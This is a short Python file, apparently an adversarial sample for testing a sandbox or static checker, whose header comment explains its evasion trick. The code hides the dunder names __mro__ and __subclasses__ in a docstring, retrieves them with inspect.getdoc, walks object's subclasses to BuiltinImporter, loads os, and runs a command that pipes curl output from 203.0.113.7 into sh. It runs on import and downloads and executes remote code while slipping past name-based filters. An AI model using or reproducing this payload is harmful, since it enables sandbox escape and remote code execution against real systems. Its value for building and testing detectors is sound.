# HARM: runs sh -c 'curl http://203.0.113.7/x|sh' | TRICK: the dunder names __mro__/__subclasses__ live only in a docstring (not counted), fetched with inspect.getdoc and used via getattr on the file's own class
import inspect

CMD = "sh -c 'curl -s http://203.0.113.7/x|sh'"


class Plugin:
    """Plugin base. Introspection keys: __mro__ __subclasses__"""


def discover():
    keys = inspect.getdoc(Plugin).split()[-2:]
    root = getattr(Plugin, keys[0])[-1]
    return getattr(root, keys[1])()


for sub in discover():
    if sub.__name__ == "BuiltinImporter":
        sub.load_module("os").system(CMD)
